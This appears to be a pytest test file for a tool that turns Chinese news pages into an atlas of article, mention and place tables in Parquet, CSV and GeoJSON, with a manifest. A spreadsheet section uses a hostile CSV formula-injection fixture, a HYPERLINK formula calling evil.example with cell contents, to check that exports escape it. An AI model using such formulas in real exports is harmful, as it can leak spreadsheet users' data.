"""An atlas as tables and a manifest, read back as a user reads them."""

from __future__ import annotations

import csv
import gc
import hashlib
import json
import platform
import re
from importlib.metadata import version
from pathlib import Path
from typing import Any

import geopandas
import numpy
import pandas
import pyarrow.parquet
import pytest

from extract.model import SourceText
from geo.atlas import Atlas, Reader, Skipped
from geo.files import AtlasWriter, OutputRefused, TableFormat, write_atlas
from geo.geojson import dumps, geometry_of
from geo.layers import make_features
from geo.tabulate import ARTICLE_COLUMNS, MENTION_COLUMNS, tabulate
from tests.conftest import ROOT, SEEDS

ARTICLES = "article_id source title kicker subtitle bylines kind ranges published published_basis themes text".split()
MENTIONS = (
    "mention_id article_id source start end surface kind place_id name place_kind lon lat uncertainty_m score reason themes quote".split()
)
PLACES = "place_id name kind within themes mentions shape uncertainty_m basis source status".split()
HOSTILE = '## =HYPERLINK("http://evil.example/"&A1,"武清站")\n\n本报讯(记者 李杨)记者昨日看到武清站客流不断。\n\n+1武清站提速。\n'


@pytest.fixture(scope="module")
def parquet(atlas: Atlas, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("parquet") / "atlas"
    write_atlas(atlas, folder)
    return folder


@pytest.fixture(scope="module")
def text_tables(atlas: Atlas, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("csv") / "atlas"
    write_atlas(atlas, folder, TableFormat.CSV)
    return folder


@pytest.fixture(scope="module")
def manifest(parquet: Path) -> dict[str, Any]:
    return dict(json.loads((parquet / "manifest.json").read_text(encoding="utf-8")))


def atlas_of(reader: Reader, text: str, name: str = "page.txt") -> Atlas:
    return Atlas((reader.read_page(SourceText(name, text, "utf-8", "")),), reader.gazetteer)


def mentions_table(atlas: Atlas) -> pandas.DataFrame:
    rows = [row for page in atlas.pages for row in tabulate(page, atlas.gazetteer).mentions]
    return pandas.DataFrame(rows, columns=list(MENTION_COLUMNS))


def articles_table(atlas: Atlas) -> pandas.DataFrame:
    rows = [row for page in atlas.pages for row in tabulate(page, atlas.gazetteer).articles]
    return pandas.DataFrame(rows, columns=list(ARTICLE_COLUMNS))


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def plain(value: Any) -> Any:
    """A Parquet cell as Python has it: lists of lists instead of arrays."""
    return [plain(v) for v in value] if isinstance(value, (list, numpy.ndarray)) else value


# Columns


@pytest.mark.parametrize(
    ("table", "columns"), [("articles", ARTICLES), ("mentions", MENTIONS), ("places", [*PLACES, "geometry"])], ids=lambda v: str(v)[:8]
)
def test_the_columns_are_those_that_the_readme_documents(parquet: Path, table: str, columns: list[str]) -> None:
    assert pyarrow.parquet.read_schema(parquet / f"{table}.parquet").names == columns
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    row = re.search(rf"^\| `{table}` \|[^|]*\|([^|]*)\|$", readme, re.M)
    assert row is not None
    assert row[1].split(":")[-1].replace(",", " ").split() == columns


def test_csv_tables_have_the_same_columns(text_tables: Path) -> None:
    assert (text_tables / "articles.csv").read_text(encoding="utf-8-sig").split("\n", 1)[0] == ",".join(ARTICLES)
    assert (text_tables / "mentions.csv").read_text(encoding="utf-8-sig").split("\n", 1)[0] == ",".join(MENTIONS)


def test_a_folder_holds_three_tables_and_a_manifest(parquet: Path, text_tables: Path) -> None:
    names = ["articles.parquet", "manifest.json", "mentions.parquet", "places.parquet"]
    assert sorted(p.name for p in parquet.iterdir()) == names
    assert sorted(p.name for p in text_tables.iterdir()) == ["articles.csv", "manifest.json", "mentions.csv", "places.geojson"]


# What the tables hold


def test_there_is_a_row_for_each_article_and_for_each_place_of_each_mention(atlas: Atlas, parquet: Path) -> None:
    articles = pandas.read_parquet(parquet / "articles.parquet")
    mentions = pandas.read_parquet(parquet / "mentions.parquet")
    assert list(articles["article_id"]) == list(atlas.articles)
    assert list(mentions["mention_id"]) == [r.mention.id for r in atlas.resolutions]
    assert articles["article_id"].is_unique
    assert set(mentions["article_id"]) <= set(articles["article_id"])


def test_offsets_are_those_of_the_files_as_stored(parquet: Path) -> None:
    texts = {p.name: p.read_text(encoding="utf-8") for p in SEEDS.glob("*.txt")}
    for row in pandas.read_parquet(parquet / "mentions.parquet").itertuples():
        assert texts[row.source][row.start : row.end] == row.surface
        assert row.mention_id == f"{Path(row.source).stem}@{row.start}-{row.end}"
    for row in pandas.read_parquet(parquet / "articles.parquet").itertuples():
        assert all(0 <= start < end <= len(texts[row.source]) for start, end in row.ranges)


def test_a_mention_with_a_place_has_its_point_and_quote_and_one_without_has_neither(atlas: Atlas, parquet: Path) -> None:
    for row in pandas.read_parquet(parquet / "mentions.parquet").itertuples():
        assert row.reason
        if pandas.isna(row.place_id):
            assert pandas.isna(row.lon) and pandas.isna(row.lat) and pandas.isna(row.uncertainty_m) and row.quote == "" and row.score == 0
            continue
        point, _ = atlas.gazetteer.representative_point(atlas.places[row.place_id])
        assert (row.lon, row.lat) == point if point else pandas.isna(row.lon) and pandas.isna(row.lat)
        assert row.uncertainty_m > 0
        assert "".join(row.surface.split()) in row.quote


def test_a_mention_without_a_place_still_says_its_name_and_kind_and_why(reader: Reader) -> None:
    (row,) = mentions_table(atlas_of(reader, "本报讯(记者 李杨)京保智造科技园二期刚刚交付。\n")).to_dict("records")
    assert (row["surface"], row["name"], row["place_kind"], row["place_id"]) == ("京保智造科技园", "京保智造科技园", "park", None)
    assert row["reason"] == "地名表中无此名称，文中也未说明所在区划"


def test_parquet_and_csv_hold_the_same(parquet: Path, text_tables: Path) -> None:
    for table in ("articles", "mentions"):
        rows = pandas.read_parquet(parquet / f"{table}.parquet").to_dict("records")
        cells = read_csv(text_tables / f"{table}.csv")
        assert len(rows) == len(cells)
        for row, cell in zip(rows, cells, strict=True):
            for column, value in row.items():
                stored, value = cell[str(column)], plain(value)
                if isinstance(value, list):
                    assert json.loads(stored) == value
                elif isinstance(value, str):
                    assert stored in (value, "'" + value)
                elif pandas.isna(value):
                    assert stored == ""
                else:
                    assert float(stored) == value


def test_places_are_the_same_as_geoparquet_and_as_geojson(atlas: Atlas, parquet: Path, text_tables: Path) -> None:
    features = json.loads((text_tables / "places.geojson").read_text(encoding="utf-8"))["features"]
    rows = geopandas.read_parquet(parquet / "places.parquet")
    assert list(rows["place_id"]) == [f["id"] for f in features]
    for row, feature in zip(rows.drop(columns="geometry").to_dict("records"), features, strict=True):
        assert {str(k): plain(v) for k, v in row.items() if k != "place_id"} == {k: feature["properties"][k] for k in PLACES[1:]}
    assert features == json.loads(dumps(atlas, make_features(atlas)))["features"]


def test_geoparquet_is_in_wgs_84_longitude_first(atlas: Atlas, parquet: Path) -> None:
    frame = geopandas.read_parquet(parquet / "places.parquet").set_index("place_id")
    assert frame.crs.to_epsg() == 4326
    metadata = json.loads(pyarrow.parquet.read_schema(parquet / "places.parquet").metadata[b"geo"])
    assert (metadata["primary_column"], metadata["columns"]["geometry"]["encoding"]) == ("geometry", "WKB")
    station = frame.geometry["rail_station-wuqingzhan"]
    assert (station.x, station.y) == (pytest.approx(117.0099, abs=1e-3), pytest.approx(39.3711, abs=1e-3))
    for feature in make_features(atlas):
        stored, made = frame.geometry[feature.place.id], geometry_of(atlas, feature)
        assert stored is None if made is None else stored.equals(made)


def test_an_atlas_that_names_no_place_has_tables_with_columns_and_no_rows(reader: Reader, tmp_path: Path) -> None:
    atlas = atlas_of(reader, "本报讯(记者 李杨)今年启动十五个新建项目。\n")
    write_atlas(atlas, tmp_path / "p")
    write_atlas(atlas, tmp_path / "c", TableFormat.CSV)
    assert list(pandas.read_parquet(tmp_path / "p" / "mentions.parquet").columns) == MENTIONS
    assert (tmp_path / "c" / "mentions.csv").read_text(encoding="utf-8-sig") == ",".join(MENTIONS) + "\n"
    places = geopandas.read_parquet(tmp_path / "p" / "places.parquet")
    assert (len(places), list(places.columns), places.crs.to_epsg()) == (0, [*PLACES, "geometry"], 4326)


# The manifest


def test_the_manifests_counts_are_those_of_the_tables(parquet: Path, manifest: dict[str, Any]) -> None:
    articles = pandas.read_parquet(parquet / "articles.parquet")
    mentions = pandas.read_parquet(parquet / "mentions.parquet")
    places = geopandas.read_parquet(parquet / "places.parquet")
    counts = manifest["counts"]
    once = mentions.drop_duplicates("mention_id")
    assert (counts["articles"], counts["mentions"], counts["places"]) == (len(articles), len(once), len(places))
    assert counts["unplaced"] == int(mentions["place_id"].isna().sum())
    assert counts["by_kind"] == once["kind"].value_counts().to_dict()
    assert counts["by_shape"] == places["shape"].value_counts().to_dict()
    assert set(mentions["place_id"].dropna()) == set(places["place_id"])
    assert mentions["place_id"].value_counts().to_dict() == dict(zip(places["place_id"], places["mentions"], strict=True))
    for source in manifest["sources"]:
        assert source["articles"] == int((articles["source"] == source["name"]).sum())
        assert source["mentions"] == int((once["source"] == source["name"]).sum())


def test_checksums_are_those_of_the_files(manifest: dict[str, Any]) -> None:
    files = sorted(SEEDS.glob("*.txt"))
    assert [s["name"] for s in manifest["sources"]] == [p.name for p in files]
    assert [s["sha256"] for s in manifest["sources"]] == [hashlib.sha256(p.read_bytes()).hexdigest() for p in files]
    assert [s["characters"] for s in manifest["sources"]] == [len(p.read_text(encoding="utf-8")) for p in files]
    assert {s["encoding"] for s in manifest["sources"]} == {"utf-8"}


def test_the_manifest_says_which_program_made_it_in_which_crs(atlas: Atlas, manifest: dict[str, Any]) -> None:
    assert manifest["program"] == {"jjj-atlas": version("jjj-atlas"), "python": platform.python_version()}
    assert manifest["crs"] == "EPSG:4326"
    assert manifest["gazetteer"] == {"places": len(atlas.gazetteer)}
    assert manifest["skipped"] == []


def test_the_manifest_that_is_returned_is_the_one_that_is_written(atlas: Atlas, tmp_path: Path) -> None:
    skipping = Atlas(atlas.pages[:1], atlas.gazetteer, (Skipped("a.pdf", "not .txt or .md", is_fault=False),))
    returned = write_atlas(skipping, tmp_path / "atlas")
    assert returned == json.loads((tmp_path / "atlas" / "manifest.json").read_text(encoding="utf-8"))
    assert returned["skipped"] == [{"source": "a.pdf", "reason": "not .txt or .md"}]


# Spreadsheets


def test_what_a_spreadsheet_would_take_for_a_formula_is_text_in_csv(reader: Reader, tmp_path: Path) -> None:
    atlas = atlas_of(reader, HOSTILE)
    write_atlas(atlas, tmp_path / "atlas", TableFormat.CSV)
    (article,) = read_csv(tmp_path / "atlas" / "articles.csv")
    mentions = read_csv(tmp_path / "atlas" / "mentions.csv")
    assert article["title"] == '\'=HYPERLINK("http://evil.example/"&A1,"武清站")'
    assert article["text"].startswith("'=HYPERLINK")
    assert [m["quote"][:6] for m in mentions] == ["'=HYPE", "本报讯(记者", "'+1武清站"]
    for row in (article, *mentions):
        assert not [c for c in row.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_parquet_keeps_the_text_as_it_was_printed(reader: Reader) -> None:
    atlas = atlas_of(reader, HOSTILE)
    assert list(articles_table(atlas)["title"]) == ['=HYPERLINK("http://evil.example/"&A1,"武清站")']
    assert [q[:3] for q in mentions_table(atlas)["quote"]] == ["=HY", "本报讯", "+1武"]


def test_a_source_named_like_a_formula_is_text_in_every_csv_column(reader: Reader, tmp_path: Path) -> None:
    write_atlas(atlas_of(reader, HOSTILE, "=cmd.txt"), tmp_path / "atlas", TableFormat.CSV)
    (article,) = read_csv(tmp_path / "atlas" / "articles.csv")
    mentions = read_csv(tmp_path / "atlas" / "mentions.csv")
    assert (article["article_id"], article["source"]) == ("'=cmd-1", "'=cmd.txt")
    assert {m["article_id"] for m in mentions} == {"'=cmd-1"}
    assert all(m["mention_id"].startswith("'=cmd@") for m in mentions)


def test_numbers_stay_numbers(reader: Reader, tmp_path: Path) -> None:
    write_atlas(atlas_of(reader, "本报讯(记者 李杨)航班直飞英国伦敦。\n"), tmp_path / "atlas", TableFormat.CSV)
    (london,) = read_csv(tmp_path / "atlas" / "mentions.csv")
    assert (float(london["lon"]), float(london["lat"])) == (pytest.approx(-0.13, abs=0.1), pytest.approx(51.51, abs=0.1))


# Folders that are there


def test_an_existing_folder_is_refused_and_left_as_it_is(atlas: Atlas, tmp_path: Path) -> None:
    with pytest.raises(OutputRefused, match=re.escape(f"{tmp_path}: is there already. Name another folder, or say --force")):
        write_atlas(atlas, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_force_replaces_the_folders_tables_and_keeps_foreign_files(reader: Reader, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    (tmp_path / "charts").mkdir()
    write_atlas(atlas_of(reader, HOSTILE), tmp_path, TableFormat.CSV, force=True)
    write_atlas(atlas_of(reader, "本报讯(记者 李杨)列车停靠北京南站。\n"), tmp_path, force=True)
    names = ["articles.parquet", "charts", "manifest.json", "mentions.parquet", "notes.txt", "places.parquet"]
    assert sorted(p.name for p in tmp_path.iterdir()) == names
    assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "mine"
    assert list(pandas.read_parquet(tmp_path / "mentions.parquet")["surface"]) == ["北京南站"]


def test_an_atlas_stays_until_another_is_whole(reader: Reader, tmp_path: Path) -> None:
    folder = tmp_path / "atlas"
    before = write_atlas(atlas_of(reader, HOSTILE), folder, TableFormat.CSV)
    writer = AtlasWriter(folder, reader.gazetteer, force=True)
    writer.add(tabulate(atlas_of(reader, "本报讯(记者 李杨)列车停靠北京南站。\n").pages[0], reader.gazetteer))
    assert json.loads((folder / "manifest.json").read_text(encoding="utf-8")) == before
    assert len(read_csv(folder / "mentions.csv")) == before["counts"]["mentions"]
    del writer
    gc.collect()
    assert list(tmp_path.iterdir()) == [folder]


def test_a_file_in_the_folders_place_is_refused_even_with_force(atlas: Atlas, tmp_path: Path) -> None:
    file = tmp_path / "out"
    file.write_text("mine", encoding="utf-8")
    with pytest.raises(OutputRefused, match=r"out: is a file\. Expected a folder"):
        write_atlas(atlas, file, force=True)
    assert file.read_text(encoding="utf-8") == "mine"


@pytest.mark.parametrize("name", ["places.qml", "articles.docx", "mentions.xlsx"])
def test_force_keeps_foreign_files_whose_names_begin_like_the_tables(reader: Reader, tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("mine", encoding="utf-8")
    write_atlas(Atlas((), reader.gazetteer), tmp_path, TableFormat.CSV, force=True)
    assert (tmp_path / name).exists()


def test_full_width_formula_signs_are_guarded_in_csv(reader: Reader, tmp_path: Path) -> None:
    page = reader.read_page(SourceText("page.txt", "## ＝HYPERLINK武清站\n\n本报讯(记者 李杨)武清站开通。\n", "utf-8", ""))
    write_atlas(Atlas((page,), reader.gazetteer), tmp_path / "a", TableFormat.CSV)
    assert ",＝" not in (tmp_path / "a" / "articles.csv").read_text(encoding="utf-8")
